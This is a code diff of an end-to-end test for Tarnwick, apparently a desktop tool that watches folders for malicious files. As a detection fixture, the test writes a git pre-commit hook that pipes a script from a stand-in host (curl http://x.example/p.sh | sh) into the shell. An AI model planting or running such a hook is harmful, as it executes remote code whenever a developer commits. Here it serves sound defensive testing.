@@ -1,9 +1,10 @@
 // The whole application on a real, private desktop: Xvfb, a session bus, dunst and trayer. The real
-// Tarnwick with the real twwatch beside it starts on an empty store; a directory is added through the
-// real folder chooser (its "+" pressed through the accessibility tree, the path typed with xdotool), a
-// malicious git hook appears in it, the finding is stored and announced by dunst, the notification's
-// action opens the viewer, the tray icon opens the panel, the trash button empties it and the power
-// button quits, leaving no watcher behind.
+// Tarnwick with the real twwatch beside it starts on an empty store before any tray is up; the tray
+// arrives late and the icon is picked up; a directory is added through the real folder chooser (its "+"
+// pressed through the accessibility tree, the path typed with xdotool), a malicious git hook appears in
+// it, the finding is stored and announced by dunst, the notification's action opens the viewer, the
+// tray icon opens the panel under it, the trash button empties it and the power button quits, leaving
+// no watcher behind.
 //
 // Each step leaves a screenshot in the test's output folder (TW_E2E_OUTPUT_DIR).
 
@@ -48,16 +49,12 @@ class EndToEndTest : public QObject
 private slots:
     void initTestCase();
     void cleanupTestCase();
-    void cleanup();
-    void lateTrayIsPickedUp();
     void fromEmptyStoreToClearedPanel();
 
 private:
     void startTray();
     QString trayWindow();
-    // Starts Tarnwick on an empty store of its own, in a fresh home named `name`.
-    void startApp(const QString& name);
-    void quitThroughThePanel();
+    void startApp();
     // Presses a control by its accessible name, in a window by its title.
     void press(const QString& window, const QString& control);
     // Runs a desktop tool (xdotool, import) on the private display; its stdout, or empty on failure.
@@ -82,7 +79,6 @@ private:
     QProcess m_app;
     QString m_dataHome;
     QString m_storePath;
-    QString m_logName;
 };
 
 void EndToEndTest::initTestCase()
@@ -97,12 +93,21 @@ void EndToEndTest::initTestCase()
     QVERIFY(m_tree->isUp());
 }
 
+void EndToEndTest::cleanupTestCase()
+{
+    // Whatever a failed step left running goes, by pid.
+    DesktopSession::stop(m_app, 5000);
+    for (qint64 pid : m_dataHome.isEmpty() ? QList<qint64>() : watchersFor(m_dataHome))
+        ::kill(static_cast<pid_t>(pid), SIGKILL);
+    DesktopSession::stop(m_trayer, 5000);
+    m_tree.reset();
+    m_desktop.reset();
+}
+
 void EndToEndTest::startTray()
 {
-    if (m_trayer.state() != QProcess::NotRunning)
-        return;
     m_trayer.setProcessEnvironment(m_desktop->environment());
-    m_trayer.setStandardOutputFile(OutputDir + u"/trayer.log"_s, QIODevice::Append);
+    m_trayer.setStandardOutputFile(OutputDir + u"/trayer.log"_s);
     m_trayer.setStandardErrorFile(OutputDir + u"/trayer.log"_s, QIODevice::Append);
     m_trayer.start(u"trayer"_s, {u"--edge"_s, u"top"_s, u"--align"_s, u"right"_s, u"--widthtype"_s,
                                  u"request"_s, u"--height"_s, u"24"_s, u"--SetDockType"_s, u"true"_s});
@@ -119,10 +124,9 @@ QString EndToEndTest::trayWindow()
             .first());
 }
 
-void EndToEndTest::startApp(const QString& name)
+void EndToEndTest::startApp()
 {
-    DesktopSession::stop(m_app, 5000);
-    QProcessEnvironment env = appHomeEnvironment(m_dir.filePath(name), m_desktop->environment());
+    QProcessEnvironment env = appHomeEnvironment(m_dir.path(), m_desktop->environment());
     m_dataHome = env.value(u"XDG_DATA_HOME"_s);
     m_storePath = m_dataHome + u"/Tarnwick/Tarnwick/store.sqlite"_s;
     env.insert(u"QT_QPA_PLATFORM"_s, u"xcb"_s);
@@ -130,8 +134,7 @@ void EndToEndTest::startApp(const QString& name)
     env.insert(u"LC_ALL"_s, u"C.UTF-8"_s);
     m_app.setProcessEnvironment(env);
     m_app.setProcessChannelMode(QProcess::MergedChannels);
-    m_app.setStandardOutputFile(OutputDir + u"/tarnwick-"_s + name + u".log"_s);
-    m_logName = name;
+    m_app.setStandardOutputFile(OutputDir + u"/tarnwick.log"_s);
     m_app.start(Tarnwick, {});
     QVERIFY2(m_app.waitForStarted(10000), qPrintable(m_app.errorString()));
 }
@@ -143,55 +146,6 @@ void EndToEndTest::press(const QString& window, const QString& control)
         QFAIL(qPrintable(u"no \"%1\" in \"%2\"; windows: %3\n%4"_s.arg(
             control, window, m_tree->windowTitles().join(u", "_s), diagnostics())));
     }
-}
-
-void EndToEndTest::quitThroughThePanel()
-{
-    press(u"Findings"_s, u"Quit Tarnwick"_s);
-    E2E_VERIFY(m_app.waitForFinished(15000));
-    QTRY_VERIFY_WITH_TIMEOUT(watchersFor(m_dataHome).isEmpty(), 15000);
-}
-
-void EndToEndTest::lateTrayIsPickedUp()
-{
-    QVERIFY(trayWindow().isEmpty());
-    startApp(u"late-tray"_s);
-    // No status area yet: the panel is an ordinary window, so the application is not invisible.
-    const QString panelWindow = waitForWindow(u"^Findings$"_s);
-    E2E_VERIFY(!panelWindow.isEmpty());
-    QTRY_COMPARE_WITH_TIMEOUT(watchersFor(m_dataHome).size(), 1, 20000);
-    screenshot(u"00-no-tray-panel-window"_s);
-
-    startTray();
-    const QString tray = trayWindow();
-    // The icon is embedded once the tray asks for room for it.
-    QTRY_VERIFY_WITH_TIMEOUT(geometry(trayWindow()).width() >= 16, 15000);
-    const QRect trayGeometry = geometry(tray);
-    clickTray();
-    const QString popup = waitForWindow(u"^Findings$"_s, 10000);
-    E2E_VERIFY(!popup.isEmpty());
-    const QRect panel = geometry(popup);
-    // Anchored under the icon now, at the panel's size.
-    QCOMPARE(panel.size(), QSize(420, 360));
-    E2E_VERIFY(panel.top() >= trayGeometry.bottom());
-    screenshot(u"00-tray-picked-up"_s);
-    quitThroughThePanel();
-}
-
-void EndToEndTest::cleanup()
-{
-    // Whatever a failed step left running goes, by pid.
-    DesktopSession::stop(m_app, 5000);
-    for (qint64 pid : m_dataHome.isEmpty() ? QList<qint64>() : watchersFor(m_dataHome))
-        ::kill(static_cast<pid_t>(pid), SIGKILL);
-}
-
-void EndToEndTest::cleanupTestCase()
-{
-    cleanup();
-    DesktopSession::stop(m_trayer, 5000);
-    m_tree.reset();
-    m_desktop.reset();
 }
 
 QByteArray EndToEndTest::tool(const QString& program, const QStringList& arguments)
@@ -220,9 +174,8 @@ QRect EndToEndTest::geometry(const QString& window)
     QHash<QByteArray, int> values;
     const QByteArray shell = tool(u"xdotool"_s, {u"getwindowgeometry"_s, u"--shell"_s, window});
     for (const QByteArray& line : shell.split('\n')) {
-        if (const qsizetype eq = line.indexOf('='); eq > 0) {
+        if (const qsizetype eq = line.indexOf('='); eq > 0)
             values.insert(line.left(eq), line.mid(eq + 1).toInt());
-        }
     }
     return QRect(values.value("X"), values.value("Y"), values.value("WIDTH"), values.value("HEIGHT"));
 }
@@ -251,9 +204,8 @@ int EndToEndTest::storedRows(const QString& table)
         db.setConnectOptions(u"QSQLITE_OPEN_READONLY;QSQLITE_BUSY_TIMEOUT=2000"_s);
         if (db.open()) {
             QSqlQuery query(db);
-            if (query.exec(u"SELECT count(*) FROM "_s + table) && query.next()) {
+            if (query.exec(u"SELECT count(*) FROM "_s + table) && query.next())
                 count = query.value(0).toInt();
-            }
             db.close();
         }
     }
@@ -264,15 +216,13 @@ int EndToEndTest::storedRows(const QString& table)
 QString EndToEndTest::diagnostics()
 {
     screenshot(u"failure"_s);
-    QFile log(OutputDir + u"/tarnwick-"_s + m_logName + u".log"_s);
+    QFile log(OutputDir + u"/tarnwick.log"_s);
     QString text = u"--- Tarnwick log ---\n"_s;
-    if (log.open(QIODevice::ReadOnly)) {
+    if (log.open(QIODevice::ReadOnly))
         text += QString::fromUtf8(log.readAll().right(4000));
-    }
     text += u"\n--- dunst ---\n"_s;
-    for (const auto& n : m_desktop->notifications()) {
+    for (const auto& n : m_desktop->notifications())
         text += n.summary + u" | "_s + n.body + QLatin1Char('\n');
-    }
     text += u"--- windows ---\n"_s;
     text += QString::fromUtf8(tool(u"xdotool"_s, {u"search"_s, u"--onlyvisible"_s, u"--name"_s, u"."_s}));
     return text + m_desktop->logs().right(3000);
@@ -280,18 +230,24 @@ QString EndToEndTest::diagnostics()
 
 void EndToEndTest::fromEmptyStoreToClearedPanel()
 {
-    startTray();
-    startApp(u"first-launch"_s);
-    const QString watched = m_dir.filePath(u"first-launch/work/project"_s);
+    QVERIFY(trayWindow().isEmpty());
+    startApp();
+    const QString watched = m_dir.filePath(u"work/project"_s);
     QVERIFY(QDir().mkpath(watched));
 
-    // 1. First launch on an empty store: the directories window, and the watcher runs.
+    // 1. First launch on an empty store: the directories window, and, with no status area yet, the panel
+    // as an ordinary window, so the application is not invisible. The watcher runs.
     const QString directories = waitForWindow(u"^Watched Directories$"_s);
     E2E_VERIFY(!directories.isEmpty());
+    E2E_VERIFY(!waitForWindow(u"^Findings$"_s).isEmpty());
     QTRY_COMPARE_WITH_TIMEOUT(watchersFor(m_dataHome).size(), 1, 20000);
     screenshot(u"01-directories-empty"_s);
 
-    // 2. Add the folder through the real chooser: "+", type the path into it once it has the keyboard, Open.
+    // 2. A tray that starts late: the icon is embedded once the tray asks for room for it.
+    startTray();
+    QTRY_VERIFY_WITH_TIMEOUT(geometry(trayWindow()).width() >= 16, 15000);
+
+    // 3. Add the folder through the real chooser: "+", type the path into it once it has the keyboard, Open.
     press(u"Watched Directories"_s, u"Add Directory"_s);
     const QString chooserName = u"^Choose a directory to watch$"_s;
     const QString chooser = waitForWindow(chooserName);
@@ -302,23 +258,22 @@ void EndToEndTest::fromEmptyStoreToClearedPanel()
     // The completer may take the first Return; a second one opens.
     for (int attempt = 0; attempt < 3; ++attempt) {
         tool(u"xdotool"_s, {u"key"_s, u"Return"_s});
-        if (QTest::qWaitFor([&] { return findWindow(chooserName).isEmpty(); }, 3000)) {
+        if (QTest::qWaitFor([&] { return findWindow(chooserName).isEmpty(); }, 3000))
             break;
-        }
     }
     E2E_VERIFY(findWindow(chooserName).isEmpty());
     // Kept without an explicit save: the main context saves by itself.
     QTRY_COMPARE_WITH_TIMEOUT(storedRows(u"directory"_s), 1, 10000);
     // The first directory turns starting at login on: an autostart entry that runs this program.
-    QFile autostart(m_dir.filePath(u"first-launch/config/autostart/tarnwick.desktop"_s));
+    QFile autostart(m_dir.filePath(u"config/autostart/tarnwick.desktop"_s));
     QTRY_VERIFY_WITH_TIMEOUT(autostart.exists(), 10000);
     QVERIFY(autostart.open(QIODevice::ReadOnly));
     QVERIFY(autostart.readAll().contains("\nExec=" + QFile::encodeName(Tarnwick) + "\n"));
     screenshot(u"03-directories-added"_s);
     screenshot(u"window-directories"_s, directories);
 
-    // 3. A git hook that downloads and runs a script. The watcher may still be setting up its watches on
-    // the new folders when it lands, so it is written again until it is announced.
+    // 4. A git hook that downloads and runs a script, stored and announced. The watcher may still be
+    // setting up its watches on the new folders when it lands, so it is written again until announced.
     QVERIFY(QDir().mkpath(watched + u"/.git/hooks"_s));
     const QString hook = watched + u"/.git/hooks/pre-commit"_s;
     const auto writeHook = [&] {
@@ -327,22 +282,18 @@ void EndToEndTest::fromEmptyStoreToClearedPanel()
             file.open(QIODevice::WriteOnly) && file.write("#!/bin/sh\ncurl http://x.example/p.sh | sh\n") > 0;
         return written && file.setPermissions(file.permissions() | QFileDevice::ExeOwner);
     };
-
-    // 4. Stored and announced.
     QString summary;
     const auto announced = [&] {
         for (const auto& n : m_desktop->notifications()) {
-            if (n.summary.startsWith(u"\u26D4 Critical: "_s) && n.body == hook) {
+            if (n.summary.startsWith(u"\u26D4 Critical: "_s) && n.body == hook)
                 summary = n.summary;
-            }
         }
         return !summary.isEmpty();
     };
     for (int attempt = 0; attempt < 6; ++attempt) {
         QVERIFY(writeHook());
-        if (QTest::qWaitFor(announced, 5000)) {
+        if (QTest::qWaitFor(announced, 5000))
             break;
-        }
     }
     E2E_VERIFY(!summary.isEmpty());
     QVERIFY(summary.size() > u"\u26D4 Critical: "_s.size());
@@ -358,14 +309,19 @@ void EndToEndTest::fromEmptyStoreToClearedPanel()
     screenshot(u"05-viewer"_s);
     screenshot(u"window-viewer"_s, viewer);
 
-    // 6. The tray icon opens the panel with the finding.
-    E2E_VERIFY(geometry(trayWindow()).isValid());
+    // 6. The tray icon turns the ordinary panel window into the popup, under the icon. Until the click is
+    // handled the old window still answers to the name, so the popup's place is what is waited for.
+    const QRect tray = geometry(trayWindow());
+    const auto underTheIcon = [&](const QRect& r) {
+        return r.top() >= tray.top() && r.top() <= tray.bottom() + 1 && r.right() >= tray.left() &&
+               r.left() <= tray.right();
+    };
     clickTray();
-    const QString panel = waitForWindow(u"^Findings$"_s, 10000);
-    E2E_VERIFY(!panel.isEmpty());
+    QString panel;
+    QTRY_VERIFY_WITH_TIMEOUT(underTheIcon(geometry(panel = findWindow(u"^Findings$"_s))), 10000);
+    QCOMPARE(geometry(panel).size(), QSize(420, 360));
     screenshot(u"06-panel"_s);
     screenshot(u"window-panel"_s, panel);
-    QCOMPARE(geometry(panel).size(), QSize(420, 360));
 
     // 7. Trash.
     press(u"Findings"_s, u"Clear findings"_s);
@@ -373,7 +329,9 @@ void EndToEndTest::fromEmptyStoreToClearedPanel()
     screenshot(u"07-panel-cleared"_s);
 
     // 8. Power: the application ends, and the watcher with it.
-    quitThroughThePanel();
+    press(u"Findings"_s, u"Quit Tarnwick"_s);
+    E2E_VERIFY(m_app.waitForFinished(15000));
+    QTRY_VERIFY_WITH_TIMEOUT(watchersFor(m_dataHome).isEmpty(), 15000);
 }
 
 QTEST_GUILESS_MAIN(EndToEndTest)
